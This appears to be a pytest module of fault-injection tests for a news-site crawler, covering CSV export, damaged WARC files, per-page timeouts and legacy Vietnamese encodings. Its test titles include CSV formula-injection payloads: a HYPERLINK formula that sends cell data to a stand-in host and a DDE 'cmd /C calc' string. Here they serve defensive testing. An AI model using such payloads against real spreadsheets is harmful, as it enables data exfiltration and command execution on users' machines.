"""Fault injection, issue 21: what a misbehaving site's content does to a run and what it leaves.

Each probe stages one case of the issue against a stand-in site on loopback (tests/hostile.py)
or on files a run left, and scores the outcome: what was archived, what was refused, and the
exit status. Every probe failed on the code before issue 21 (the commit messages say how).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.badsite import Answer, article_html
from tests.crashing import pipelines_with_spin
from tests.crawling import REPO, archive_lines, run_crawl
from tests.faults import unshare_works
from tests.hostile import HostileSite, article_path
from tests.replica import Replica

pytestmark = pytest.mark.slow


def python_m_crawler(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "crawler", *args], cwd=REPO,
                          capture_output=True, text=True, timeout=timeout)


# --- Exports are safe to open ---------------------------------------------------------------

FORMULA_TITLES = {
    2548201: "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")",
    2548202: "+84 xã đạt chuẩn nông thôn mới",
    2548203: "-5 độ: rét đậm rét hại ở Nam Định",
    2548204: "@SUM(1+1)*cmd|' /C calc'!A0",
    2548205: "Hội nghị tổng kết năm 2022",  # a plain title stays as it is
}


@pytest.fixture(scope="module")
def formula_archive(tmp_path_factory) -> Path:
    """An archive crawled from a site whose titles begin like spreadsheet formulas."""
    root = tmp_path_factory.mktemp("formulas") / "archive"
    pages = {article_path("bai", aid): Answer(body=article_html(aid, title=title).encode())
             for aid, title in FORMULA_TITLES.items()}
    with HostileSite(pages) as site:
        done = run_crawl(site.url, root, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    assert sorted(r["title"] for r in archive_lines(root)) == sorted(FORMULA_TITLES.values())
    return root


def csv_titles(path: Path) -> dict[str, str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return {row["id"]: row["title"] for row in csv.DictReader(fh)}


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(formula_archive, tmp_path):
    out = tmp_path / "a.csv"
    done = python_m_crawler("export", "--archive-dir", str(formula_archive), "--format", "csv",
                            "--output", str(out))
    assert done.returncode == 0, done.stderr
    titles = csv_titles(out)
    for aid, title in FORMULA_TITLES.items():
        expected = title if title[0].isalnum() else "'" + title
        assert titles[str(aid)] == expected
    raw = tmp_path / "raw.csv"
    done = python_m_crawler("export", "--archive-dir", str(formula_archive), "--format", "csv",
                            "--output", str(raw), "--csv-raw")
    assert done.returncode == 0, done.stderr
    assert csv_titles(raw) == {str(aid): title for aid, title in FORMULA_TITLES.items()}


def test_a_killed_exports_temporary_file_is_removed_by_the_next_export(formula_archive,
                                                                          tmp_path):
    # What a SIGKILLed export leaves: its temporary output, named by its (now gone) pid.
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)
    dead_pid = int(gone.stdout)
    out = tmp_path / "exports" / "articles.csv"
    out.parent.mkdir()
    stale = [out.parent / f".articles.csv.tmp-{dead_pid}",
             out.parent / f".articles.parquet.tmp-{dead_pid}",
             out.parent / f".articles.duckdb.tmp-{dead_pid}.wal"]
    alive = out.parent / f".articles.csv.tmp-{os.getpid()}"  # an export still running
    for path in (*stale, alive):
        path.write_bytes(b"x" * 1000)
    done = python_m_crawler("export", "--archive-dir", str(formula_archive), "--format", "csv",
                            "--output", str(out))
    assert done.returncode == 0, done.stderr
    assert not any(path.exists() for path in stale)
    assert alive.exists()
    assert sorted(p.name for p in out.parent.iterdir()) == sorted([out.name, alive.name])


@pytest.mark.skipif(not unshare_works(), reason="needs a private mount namespace (unshare)")
@pytest.mark.parametrize("mount_options", ["size=4k", "ro"])
def test_a_full_or_read_only_output_is_a_one_line_error_with_status_6(formula_archive, tmp_path,
                                                                        mount_options):
    command = [sys.executable, "-m", "crawler", "export", "--archive-dir", str(formula_archive),
               "--format", "csv", "--output", "/mnt/out/articles.csv"]
    quoted = " ".join("'" + part.replace("'", "'\\''") + "'" for part in command)
    script = (f"mkdir -p /mnt/out && mount -t tmpfs -o {mount_options} tmpfs /mnt/out && "
              f"{{ {quoted}; rc=$?; ls -a /mnt/out; exit $rc; }}")
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                          cwd=REPO, capture_output=True, text=True, timeout=120)
    assert done.returncode == 6, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: cannot write /mnt/out/articles.csv: ")
    assert "Traceback" not in done.stderr
    assert ("No space left on device" if mount_options.startswith("size")
            else "Read-only file system") in lines[0]
    assert done.stdout.split() == [".", ".."]  # no temporary file left behind


# --- Damaged WARCs are read past ------------------------------------------------------------


@pytest.fixture(scope="module")
def warc_crawl(tmp_path_factory) -> dict:
    """A crawl of a small replica, with its WARC file and the records it archived."""
    root = tmp_path_factory.mktemp("warc") / "archive"
    with Replica(articles=40, seed=21, crawl_delay=0) as site:
        run_crawl(site.url, root)
        url = site.url
    (warc,) = sorted((root / "raw").glob("*.warc.gz"))
    records = archive_lines(root)
    return {"url": url, "warc": warc, "records": records}


def reextract_cli(crawl: dict, *warcs: Path, into: Path) -> subprocess.CompletedProcess[str]:
    return python_m_crawler("reextract", *map(str, warcs), "--archive-dir", str(into),
                            "-s", f"SITE_URL={crawl['url']}", "-s", "SITE_HOST_ALIASES=localhost",
                            "-s", "ARCHIVE_FSYNC=False", timeout=300)


def damage_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("damaged: /")]


def test_64_corrupted_bytes_in_one_record_lose_that_record_only(warc_crawl, tmp_path):
    records = sorted(warc_crawl["records"], key=lambda r: r["capture"]["offset"])
    hit = records[len(records) // 2]["capture"]
    data = bytearray(warc_crawl["warc"].read_bytes())
    at = hit["offset"] + hit["length"] // 2
    data[at:at + 64] = bytes(b ^ 0x5A for b in data[at:at + 64])
    damaged = tmp_path / "damaged.warc.gz"
    damaged.write_bytes(data)
    done = reextract_cli(warc_crawl, damaged, into=tmp_path / "fresh")
    assert done.returncode == 1, done.stderr  # something was damaged: said by the status
    assert "Traceback" not in done.stderr
    (line,) = damage_lines(done.stderr)
    assert line.startswith(f"damaged: {damaged}: offset {hit['offset']}, {hit['length']} bytes "
                           f"skipped (bytes {hit['offset']}-{hit['offset'] + hit['length'] - 1})")
    assert line.isascii() and line.isprintable()  # plain text: no garbage quoted from the file
    archived = {r["id"] for r in archive_lines(tmp_path / "fresh")}
    assert archived == {r["id"] for r in records} - {records[len(records) // 2]["id"]}


def test_a_corrupted_record_of_an_uncompressed_warc_is_skipped_at_the_next_header(warc_crawl,
                                                                                  tmp_path):
    import gzip

    plain = bytearray(gzip.decompress(warc_crawl["warc"].read_bytes()))
    victim = warc_crawl["records"][5]
    start = plain.index(f"WARC-Record-ID: <{victim['capture']['record_id']}>".encode())
    at = plain.index(b"<p>", start)  # inside its HTML body: only the digest can tell
    plain[at:at + 64] = b"\0" * 64
    damaged = tmp_path / "damaged.warc"
    damaged.write_bytes(plain)
    done = reextract_cli(warc_crawl, damaged, into=tmp_path / "fresh")
    assert done.returncode == 1, done.stderr
    (line,) = damage_lines(done.stderr)
    assert "does not match its digest" in line
    archived = {r["id"] for r in archive_lines(tmp_path / "fresh")}
    assert archived == {r["id"] for r in warc_crawl["records"]} - {victim["id"]}


def test_a_truncated_warc_is_read_to_the_cut_and_says_so(warc_crawl, tmp_path):
    data = warc_crawl["warc"].read_bytes()
    # In the middle of the response record that spans two thirds of the file: a cut that falls
    # between two gzip members, or in a member's 8-byte trailer, damages nothing readable.
    spans = sorted((r["capture"]["offset"], r["capture"]["length"]) for r in warc_crawl["records"])
    start, length = next((o, n) for o, n in spans if o + n > len(data) * 2 // 3)
    cut = start + length // 2
    damaged = tmp_path / "cut.warc.gz"
    damaged.write_bytes(data[:cut])
    done = reextract_cli(warc_crawl, damaged, into=tmp_path / "fresh")
    assert done.returncode == 1, done.stderr
    (line,) = damage_lines(done.stderr)
    offset = int(line.split("offset ")[1].split(",")[0])
    assert f"bytes {offset}-{cut - 1})" in line
    whole = {r["id"] for r in warc_crawl["records"]
             if r["capture"]["offset"] + r["capture"]["length"] <= cut}
    assert {r["id"] for r in archive_lines(tmp_path / "fresh")} == whole and len(whole) > 10


def test_a_file_that_is_not_a_warc_is_a_clear_error(warc_crawl, tmp_path):
    notes = tmp_path / "notes.warc.gz"
    notes.write_text("These are my notes about the crawl, not a WARC file.\n" * 50)
    done = reextract_cli(warc_crawl, warc_crawl["warc"], notes, into=tmp_path / "fresh")
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip() == (f"error: {notes} is not a WARC file: no WARC record begins in "
                                   f"it (it starts 'These are my notes about the crawl, not')")
    assert not (tmp_path / "fresh").exists()  # refused before anything was written


# --- No page can hold a worker ---------------------------------------------------------------

SPIN = {"ITEM_PIPELINES": pipelines_with_spin(), "SPIN_TEST_IDS": "2548302",
        "SPIN_TEST_SECONDS": "20", "PROCESSING_TIMEOUT": "2"}
SPIN_PAGES = {article_path("bai", aid): Answer(body=article_html(aid).encode())
              for aid in range(2548301, 2548307)}


def rejects_of(archive: Path) -> list[dict]:
    return [json.loads(line) for path in sorted((archive / "rejects").glob("*.jsonl"))
            for line in path.read_text("utf-8").splitlines()]


@pytest.mark.parametrize("workers", ["1", "0"])
def test_a_page_over_the_time_budget_is_a_reject_and_the_run_goes_on(tmp_path, workers):
    with HostileSite(SPIN_PAGES) as site:
        done = run_crawl(site.url, tmp_path, settings={**SPIN, "PROCESSING_WORKERS": workers},
                         check=False, timeout=120)
    assert done.returncode == 0, done.stderr[-3000:]
    archived = {r["id"] for r in archive_lines(tmp_path)}
    assert archived == {str(aid) for aid in range(2548301, 2548307)} - {"2548302"}
    (reject,) = rejects_of(tmp_path)
    assert (reject["id"], reject["stage"], reject["retryable"]) == ("2548302", "spin", False)
    assert reject["reason"] == "timeout in spin: the page took more than 2 s (PROCESSING_TIMEOUT)"
    assert "timeout in spin on " in done.stderr
    if workers == "1":  # the worker that held the page was killed and another took its place
        assert "killed (more than 2 s on one page, in spin)" in done.stderr
        assert "takes its place" in done.stderr


def test_reextract_and_extract_keep_the_time_budget_too(tmp_path):
    with HostileSite(SPIN_PAGES) as site:
        run_crawl(site.url, tmp_path / "crawl")
        url = site.url
    warcs = sorted((tmp_path / "crawl" / "raw").glob("*.warc.gz"))
    settings = [f"{name}={value}" for name, value in SPIN.items()]
    done = python_m_crawler("reextract", *map(str, warcs), "--archive-dir", str(tmp_path / "rx"),
                            "-s", f"SITE_URL={url}", "-s", "SITE_HOST_ALIASES=localhost",
                            *(x for s in settings for x in ("-s", s)), timeout=120)
    assert done.returncode == 0, done.stderr
    assert {r["id"] for r in archive_lines(tmp_path / "rx")} == \
        {str(aid) for aid in range(2548301, 2548307)} - {"2548302"}
    (reject,) = rejects_of(tmp_path / "rx")
    assert reject["reason"].startswith("timeout in spin: ")
    page = tmp_path / "page.html"
    page.write_bytes(article_html(2548302).encode())
    done = python_m_crawler("extract", str(page), "--url",
                            "https://baonamdinh.vn/channel/5083/202201/bai-2548302/",
                            *(x for s in settings for x in ("-s", s)), timeout=120)
    assert done.returncode == 1 and done.stdout == ""
    assert "rejected (spin): timeout in spin: the page took more than 2 s" in done.stderr


def test_a_600_kb_hostile_caption_is_archived_in_linear_time(tmp_path):
    # The page: a photo caption holding "<a" and 300,000 spaces (167 s in extract).
    spaces = " " * 300_000
    hostile = article_html(2548401, caption=f"&lt;a{spaces}Ảnh") \
        .replace('alt="', f'alt="&lt;a{spaces}', 1)
    pages = {article_path("bai", 2548401): Answer(body=hostile.encode()),
             **{article_path("bai", aid): Answer(body=article_html(aid).encode())
                for aid in range(2548402, 2548412)}}
    with HostileSite(pages) as site:
        done = run_crawl(site.url, tmp_path, check=False, timeout=120,
                         settings={"DOWNLOAD_MAXSIZE": "2000000"})
    assert done.returncode == 0, done.stderr[-3000:]
    assert {r["id"] for r in archive_lines(tmp_path)} == {str(a) for a in range(2548401, 2548412)}
    assert not rejects_of(tmp_path)


# --- Legacy Vietnamese font encodings -----------------------------------------------------


def test_pages_in_legacy_font_encodings_are_archived_in_unicode_or_flagged(tmp_path):
    from tests.badsite import ENCODED_TITLE
    from tests.test_legacy import to_tcvn3, to_vni

    def page(aid: int, encode, charset: str = "windows-1252", as_utf8: bool = False) -> Answer:
        body = encode(article_html(aid, title=ENCODED_TITLE, charset=charset))
        if as_utf8:  # what a CMS stored: the characters the font showed, as UTF-8
            body = body.decode("cp1252").encode("utf-8")
        return Answer(body=body, headers=(("Content-Type", f"text/html; charset={charset}"),))

    # TCVN3 half of whose words are damaged: a reading half Vietnamese proves nothing.
    odd = (to_tcvn3("Nông dân thu hoạch lúa xuân được mùa") + " x¸zq ¹qwx kµz ©xq bµw ¸kq"
           .encode("cp1252")).decode("cp1252")
    pages = {article_path("bai", 2548501): page(2548501, to_tcvn3),
             article_path("bai", 2548502): page(2548502, to_tcvn3, "utf-8", as_utf8=True),
             article_path("bai", 2548503): page(2548503, to_vni),
             article_path("bai", 2548504): Answer(body=article_html(2548504).replace(
                 "<p>Hội nghị kết thúc", f"<p>{odd}</p><p>Hội nghị kết thúc").encode()),
             article_path("bai", 2548505): Answer(body=article_html(2548505).encode())}
    with HostileSite(pages) as site:
        done = run_crawl(site.url, tmp_path, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    records = {r["id"]: r for r in archive_lines(tmp_path)}
    assert {aid: r["legacy_encoding"] for aid, r in records.items()} == {
        "2548501": "tcvn3", "2548502": "tcvn3", "2548503": "vni", "2548504": "unknown",
        "2548505": None}
    for aid in ("2548501", "2548502", "2548503"):
        assert records[aid]["title"] == ENCODED_TITLE
        assert "Đảng ủy Khối các Cơ quan và Doanh nghiệp tỉnh" in records[aid]["body"]
    # Kept as it was, but for the soft hyphen text cleaning drops (the WARC keeps the bytes).
    assert odd.replace("\xad", "") in records["2548504"]["body"]
    assert "legacy Vietnamese font encoding that could not be told" in done.stderr
    assert not rejects_of(tmp_path)
